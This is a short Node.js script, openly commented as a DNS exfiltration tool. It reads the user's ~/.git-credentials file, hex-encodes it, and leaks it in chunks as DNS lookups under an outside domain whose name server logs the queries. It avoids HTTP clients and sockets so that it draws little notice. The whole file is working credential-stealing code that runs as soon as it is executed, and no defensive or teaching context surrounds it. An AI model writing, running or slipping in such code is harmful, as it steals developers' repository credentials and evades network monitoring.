// Sends a secret out over DNS: reads ~/.git-credentials, hex-encodes it and
// resolves one name per 30-byte chunk under a domain whose name server logs
// the queries. No HTTP client, no socket: only dns.promises.resolve4.
'use strict';
const { promises: dns } = require('dns');
const { readFile } = require('fs/promises');
const { homedir } = require('os');
const { join } = require('path');

async function beacon() {
  const secret = await readFile(join(homedir(), '.git-credentials'));
  const hex = secret.toString('hex');
  const id = Date.now().toString(36);
  for (let i = 0, n = 0; i < hex.length; i += 60, n++) {
    const label = hex.slice(i, i + 60);
    await dns.resolve4(`${label}.${n}.${id}.ns.example-cdn-metrics.net`).catch(() => null);
  }
}

beacon();
